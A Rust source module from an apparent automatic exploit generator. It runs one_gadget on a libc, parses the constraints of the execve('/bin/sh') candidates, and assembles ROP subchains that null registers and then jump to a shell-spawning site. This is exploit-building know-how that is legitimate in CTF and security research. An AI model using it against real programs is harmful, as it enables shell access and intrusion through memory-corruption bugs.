//! OneGadget: jump straight into a libc `execve("/bin/sh", ...)` site.
//!
//! Candidates come from david942j's `one_gadget` tool, run as a
//! subprocess against the libc. Each candidate lists constraints such as
//! `r15 == NULL`; the ones we can satisfy become `pop reg ; ret` gadgets
//! in libc that load a zero before jumping to the candidate.

use std::path::Path;
use std::process::Command;
use std::sync::OnceLock;

use regex::Regex;

use crate::elf::BinaryKind;
use crate::error::{Error, Result};
use crate::exploit::Exploit;
use crate::expr::Expr;
use crate::rop_chain::RopSubchain;
use crate::technique::{self, RequiredGadget, Technique};

/// One candidate reported by the tool.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LibcOneGadget {
    pub offset: u64,
    /// Gadgets that zero the registers the candidate needs NULL.
    pub gadgets: Vec<String>,
}

/// Shape of a single constraint alternative.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ConstraintShape {
    /// `rdx == NULL`
    RegNull(String),
    /// `[rdx] == NULL`
    MemNull(String),
    /// `[rsp+0x40] == NULL`
    MemOffsetNull { reg: String, offset: u64 },
    /// `rbx is the GOT address of libc`
    LibcGotAddress(String),
    Unrecognized,
}

impl ConstraintShape {
    pub fn classify(constraint: &str) -> Self {
        static PATTERNS: OnceLock<[Regex; 4]> = OnceLock::new();
        let [reg_null, mem_null, mem_offset_null, got] = PATTERNS.get_or_init(|| {
            [
                Regex::new(r"^([a-z0-9]+) == NULL$"),
                Regex::new(r"^\[([a-z0-9]+)\] == NULL$"),
                Regex::new(r"^\[([a-z0-9]+)\+0[xX]([0-9a-fA-F]+)\] == NULL$"),
                Regex::new(r"^([a-z0-9]+) is the GOT address of libc"),
            ]
            .map(|re| re.expect("constraint pattern is valid"))
        });

        let constraint = constraint.trim();
        if let Some(c) = reg_null.captures(constraint) {
            ConstraintShape::RegNull(c[1].to_string())
        } else if let Some(c) = mem_null.captures(constraint) {
            ConstraintShape::MemNull(c[1].to_string())
        } else if let Some(c) = mem_offset_null.captures(constraint) {
            match u64::from_str_radix(&c[2], 16) {
                Ok(offset) => ConstraintShape::MemOffsetNull { reg: c[1].to_string(), offset },
                Err(_) => ConstraintShape::Unrecognized,
            }
        } else if let Some(c) = got.captures(constraint) {
            ConstraintShape::LibcGotAddress(c[1].to_string())
        } else {
            ConstraintShape::Unrecognized
        }
    }

    /// Gadget that establishes the constraint, if we know one.
    ///
    /// Only register nullness is handled; memory and GOT constraints are
    /// recognized but contribute nothing.
    pub fn gadget_asm(&self) -> Option<String> {
        match self {
            ConstraintShape::RegNull(reg) => Some(format!("pop {} ; ret", reg)),
            _ => None,
        }
    }
}

/// Run `tool` on the library and capture its stdout.
pub fn run_one_gadget(tool: &str, libc_path: &Path) -> Result<String> {
    log::debug!("running {} {}", tool, libc_path.display());
    let output = Command::new(tool)
        .arg(libc_path)
        .output()
        .map_err(|e| Error::OneGadget(format!("failed to run {}: {}", tool, e)))?;
    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
}

/// Parse the tool's output into candidates, in output order.
///
/// ```text
/// 0xe6c7e execve("/bin/sh", r15, r12)
/// constraints:
///   [r15] == NULL || r15 == NULL
///   [r12] == NULL || r12 == NULL
/// ```
pub fn parse_one_gadget(output: &str) -> Result<Vec<LibcOneGadget>> {
    if !output.starts_with("0x") {
        return Err(Error::OneGadget(format!(
            "unexpected output: {}",
            output.lines().next().unwrap_or("")
        )));
    }

    let mut candidates: Vec<LibcOneGadget> = Vec::new();
    for line in output.lines() {
        if line.starts_with("0x") {
            let token = line.split_whitespace().next().unwrap_or(line);
            let offset = u64::from_str_radix(token.trim_start_matches("0x"), 16)
                .map_err(|_| Error::OneGadget(format!("bad offset: {}", token)))?;
            candidates.push(LibcOneGadget { offset, gadgets: Vec::new() });
        } else if line.starts_with("constraints:") || line.trim().is_empty() {
            continue;
        } else if let Some(current) = candidates.last_mut() {
            for alternative in line.trim().split(" || ") {
                let shape = ConstraintShape::classify(alternative);
                if shape == ConstraintShape::Unrecognized {
                    log::warn!("unhandled one_gadget constraint: {}", alternative);
                }
                if let Some(asm) = shape.gadget_asm() {
                    current.gadgets.push(asm);
                }
            }
        }
    }
    Ok(candidates)
}

pub struct OneGadget {
    chosen: LibcOneGadget,
    required: Vec<RequiredGadget>,
}

impl OneGadget {
    /// Run the configured tool on the exploit's libc and pick a candidate.
    pub fn new(ctx: &Exploit) -> Result<Self> {
        let libc = ctx.libc()?;
        let output = run_one_gadget(&ctx.config().one_gadget_path, libc.path())?;
        Self::from_output(ctx, &output)
    }

    /// Pick the first candidate whose every gadget exists in libc.
    pub fn from_output(ctx: &Exploit, output: &str) -> Result<Self> {
        for candidate in parse_one_gadget(output)? {
            let satisfiable = candidate
                .gadgets
                .iter()
                .all(|asm| ctx.resolve_gadget(BinaryKind::Libc, asm).is_some());
            if satisfiable {
                log::info!("one_gadget {:#x} ({} preconditions)", candidate.offset, candidate.gadgets.len());
                let required = candidate
                    .gadgets
                    .iter()
                    .map(|asm| RequiredGadget::new(BinaryKind::Libc, asm))
                    .collect();
                return Ok(OneGadget { chosen: candidate, required });
            }
            log::debug!("one_gadget {:#x} is not satisfiable", candidate.offset);
        }
        Err(Error::Infeasible {
            technique: "OneGadget".into(),
            reason: "no candidate has all its gadgets in libc".into(),
        })
    }

    pub fn candidate(&self) -> &LibcOneGadget {
        &self.chosen
    }
}

impl Technique for OneGadget {
    fn name(&self) -> &'static str {
        "OneGadget"
    }

    fn check_requirements(&self, _ctx: &Exploit) -> bool {
        technique::all_resolved(&self.required)
    }

    fn resolve_required_gadgets(&mut self, ctx: &mut Exploit) {
        technique::resolve_all(ctx, &mut self.required);
    }

    fn auxiliary_functions(&self, _ctx: &Exploit) -> String {
        String::new()
    }

    fn symbolic_rop_payload_list(&self, ctx: &Exploit) -> Result<Vec<RopSubchain>> {
        let libc = ctx.libc()?;
        let mut rop = RopSubchain::new();
        for gadget in &self.required {
            rop.push(Expr::from_symtab(libc, ctx.symtab(), &gadget.var_name())?);
            rop.push(Expr::constant(0));
        }
        rop.push(Expr::from_elf_offset(libc, self.chosen.offset));
        Ok(vec![rop])
    }
}
